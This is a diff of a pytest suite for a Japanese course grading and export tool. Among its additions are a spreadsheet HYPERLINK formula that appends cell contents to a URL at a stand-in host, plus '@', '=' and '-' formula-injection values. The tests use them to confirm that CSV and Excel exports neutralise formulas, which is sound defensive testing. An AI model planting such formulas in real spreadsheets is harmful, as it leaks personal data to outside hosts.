@@ -2,6 +2,8 @@
 
 roster → personal release → collect from an e-mail folder → parallel autograde (with every bad case)
 → feedback → export (要確認, 所属, per town, CP932) → written answers → report → purge.
+
+The cohort is built and graded once (a session fixture); tests that change it work on a copy.
 """
 
 from __future__ import annotations
@@ -59,7 +61,10 @@ def _points(course):
     return {c: p for _nb, c, p in export._cells(course, A)}
 
 
-@pytest.fixture(scope="module")
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A2&D2,"詳しくはこちら")'
+
+
+@pytest.fixture(scope="session")
 def cohort(tmp_path_factory):
     base = tmp_path_factory.mktemp("cohort")
     course = Course.open(base / "course")
@@ -73,7 +78,7 @@ def cohort(tmp_path_factory):
     for i in range(40):
         code, town = TOWNS[i % 3]
         staff = f"{1000 + i:06d}"   # 001000… : Excel keeps it as a number without the zeros
-        name = f"架空 {'一二三四五六七八九十'[i % 10]}郎{i}"
+        name = f"架空 {'一二三四五六七八九十'[i % 10]}郎{i}" if i != 39 else "@架空 十郎39"
         email = f"user{i:02d}@{'abc'[i % 3]}.example.lg.jp"
         ws.append([int(code) if code[0] != "0" else code, int(staff), name, town, "市民課" if i % 2 else "総務課",
                    email])
@@ -113,7 +118,9 @@ def cohort(tmp_path_factory):
     for i in range(12):
         p = people[i]
         kind = ("full", "half", "none")[i % 3]
-        nb = _make(release, {"full": sol, "half": half, "none": {}}[kind])
+        written_answer = FORMULA if i == 0 else "窓口の待ち時間を指標にし、毎月集計します。"   # q6, graded by hand
+        nb = _make(release, {"full": sol, "half": half, "none": {}}[kind],
+                   replace={"q6": written_answer} if kind == "full" else None)
         expected[p["id"]] = {"full": FULL, "half": 7.0, "none": 0.0}[kind]
         style = i % 6
         if style == 0:
@@ -178,10 +185,12 @@ def cohort(tmp_path_factory):
     grade_report = autograde.autograde(course, A, workers=2, timeout=5, progress=False)
     fb = feedback.generate_feedback(course, A)
     exp = export.export_grades(course, [A], base / "export")
+    untouched = [people[i]["id"] for i in range(12) if i % 3 == 2]
     after = {p: hashlib.sha1(p.read_bytes()).hexdigest() for p in inbox.rglob("*") if p.is_file()}
     return dict(course=course, base=base, people=people, roster_report=roster_report, collect=collect_report,
                 grades=grade_report, feedback=fb, export=exp, expected=expected, bad=bad, ids=ids,
-                not_submitted=not_submitted, before=before, after=after, source=source)
+                not_submitted=not_submitted, before=before, after=after, source=source, untouched=untouched,
+                inbox=inbox)
 
 
 # ------------------------------------------------------------------ roster
@@ -202,12 +211,16 @@ def test_roster_rejects_bad_rows_with_line_numbers(tmp_path):
     with course.gradebook() as gb:
         assert sorted(s.id for s in gb.students) == sorted(rep.added)
     assert "4 行目" in str(rep)
+    # a 5-digit code is padded only with a warning naming the row (it may be a code without its check digit)
+    assert [line for line, _ in rep.warnings] == [3] and "099201" in rep.warnings[0][1]
+    assert "992011" in rep.warnings[0][1] and "3 行目" in str(rep)
 
 
 def test_roster_from_excel_numbers(cohort):
     rep = cohort["roster_report"]
     assert len(rep.added) == 40
     assert rep.rejected and rep.rejected[0][0] == 42 and "重複" in rep.rejected[0][1]
+    assert rep.warnings == []
     kept = roster.load_roster(cohort["course"])
     assert set(kept) == set(cohort["ids"])
 
@@ -294,8 +307,8 @@ def test_feedback_hides_hidden_tests_but_gives_reasons(cohort):
     course = cohort["course"]
     hidden = _hidden_lines(cohort["source"])
     assert hidden
-    assert len(cohort["feedback"]) >= 20
-    for path in cohort["feedback"]:
+    assert len(cohort["feedback"].made) >= 20 and not cohort["feedback"].failed
+    for path in cohort["feedback"].made:
         text = htmlmod.unescape(re.sub(r"<[^>]+>", "", path.read_text(encoding="utf-8")))
         for line in hidden:
             assert line not in text, f"{path}: hidden test shown: {line}"
@@ -306,7 +319,7 @@ def test_feedback_hides_hidden_tests_but_gives_reasons(cohort):
     assert "問4" in text and "AssertionError" in text
     edited = cohort["bad"]["edited_test"]
     text = htmlmod.unescape((course.feedback_dir(edited, A) / f"{A}.html").read_text(encoding="utf-8"))
-    assert "隠しテスト: 問3（隠しテスト）" in text or "隠しテスト: " in text or "問3:" in text
+    assert "q3_test: 問3" in text and "calc_fee" not in text.split("q3_test")[1][:200]
     # bad submissions get no feedback (the instructor checks them first)
     assert not course.feedback_dir(cohort["bad"]["crash"], A).exists()
 
@@ -361,10 +374,14 @@ def test_written_answers_round_trip(cohort, tmp_path):
     path = written.export_written(course, A, "q6", tmp_path / "q6.xlsx")
     wb = load_workbook(path)
     assert "採点基準" in wb["採点の手引き"]["B5"].value
+    prompt = wb["採点の手引き"]["B6"].value
+    assert prompt and "q6" not in prompt and prompt == wb["解答"]["H2"].value      # the question next to the answers
     ws = wb["解答"]
     rows = list(ws.iter_rows(min_row=2))
     assert len(rows) >= 20
     full = cohort["people"][0]["id"]
+    formula = next(row[4] for row in rows if row[0].value == full)
+    assert formula.value == "'" + FORMULA and formula.data_type == "s"     # text, never a live formula
     for row in rows:
         if row[0].value == full:
             row[5].value = 2
@@ -387,6 +404,12 @@ def test_report_is_self_contained(cohort):
     assert "問ごとの正答率" in text and "いちばん難しかった問" in text
     for learner in cohort["not_submitted"]:
         assert learner in text
+    # the manually graded q6 is waiting for the instructor: never called the hardest question
+    rates = report.question_rates(cohort["course"], A, export.assignment_table(cohort["course"], A)).set_index("問（セル）")
+    assert "要手動採点" in rates.loc["q6", "状態"]
+    assert "いちばん難しかった問は q6" not in text
+    for learner in cohort["untouched"]:
+        assert learner in text.split("<h2>未着手")[1].split("<h2>")[0]
 
 
 def test_cli_runs_and_speaks_japanese(cohort, capsys):
@@ -396,16 +419,51 @@ def test_cli_runs_and_speaks_japanese(cohort, capsys):
     course = str(cohort["course"].root)
     assert main(["cohort", "--course", course, "export", A, "--out", str(cohort["base"] / "cli")]) == 0
     assert "書き出しました" in capsys.readouterr().out
-    assert main(["cohort", "--course", course, "purge"]) == 2
-    assert "--yes" in capsys.readouterr().err
+    assert main(["cohort", "--course", course, "purge"]) == 0          # lists only
+    assert "--yes" in capsys.readouterr().out and (cohort["course"].root / "submitted").is_dir()
 
 
-def test_purge_removes_personal_data(cohort):
-    # last test of the module (pytest keeps file order): the cohort's data is gone afterwards
-    course = cohort["course"]
-    purge.purge(course, yes=True)
+def test_purge_removes_personal_data(cohort, tmp_path):
+    import shutil
+
+    shutil.copytree(cohort["course"].root, tmp_path / "copy")          # the shared cohort stays as it is
+    course = Course.open(tmp_path / "copy")
+    planned, done = purge.purge(course, yes=True)
+    assert done and str(course.root / "submitted") in planned
     assert not course.cohort_dir.exists()
     assert not (course.root / "submitted").exists() and not (course.root / "autograded").exists()
     with course.gradebook() as gb:
         assert gb.students == []
     assert (course.release_dir(A) / f"{A}.ipynb").exists()
+
+
+def test_untouched_submissions_read_mitchakushu(cohort):
+    table = export.assignment_table(cohort["course"], A).set_index("学習者ID")
+    for learner in cohort["untouched"]:
+        assert "未着手" in table.loc[learner, "備考"] and table.loc[learner, "得点"] == 0.0
+    assert "未着手" not in table.loc[cohort["people"][0]["id"], "備考"]
+
+
+def test_second_autograde_keeps_the_tampering_flag_and_the_submission(cohort):
+    course, learner = cohort["course"], cohort["bad"]["edited_test"]
+    received = next(p for p in cohort["inbox"].iterdir() if p.name.endswith(".ipynb") and
+                    learner.split("-")[1] in p.name)
+    again = autograde.autograde(course, A, learners=[learner], workers=1, timeout=5, progress=False)
+    assert again.results[learner].tampered and course.load_status(A)[learner]["tampered"]
+    assert (course.submitted_dir(learner, A) / f"{A}.ipynb").read_bytes() == received.read_bytes()
+    table = export.assignment_table(course, A).set_index("学習者ID")
+    assert table.loc[learner, "テストの改変"] == "あり" and table.loc[learner, "得点"] == cohort["expected"][learner]
+
+
+def test_exports_neutralise_formulas_and_keep_ids_as_text(cohort, tmp_path):
+    from openpyxl import load_workbook
+
+    raw = (cohort["base"] / "export" / f"成績_{A}.csv").read_text(encoding="utf-8-sig")
+    assert '"\'@架空 十郎39"' in raw and '"@架空' not in raw
+    df = pd.DataFrame({"団体コード": ["099201"], "職員番号": ["000123"], "氏名": ["=1+2"], "備考": ["-x"], "得点": [3.0]})
+    export.write_csv(df, tmp_path / "t.csv")
+    text = (tmp_path / "t.csv").read_text(encoding="utf-8-sig").splitlines()
+    assert text[1] == '"099201","000123","\'=1+2","\'-x",3.0'
+    export.write_excel({"t": df}, tmp_path / "t.xlsx")
+    ws = load_workbook(tmp_path / "t.xlsx")["t"]
+    assert [(c.value, c.data_type) for c in ws[2]][:3] == [("099201", "s"), ("000123", "s"), ("'=1+2", "s")]
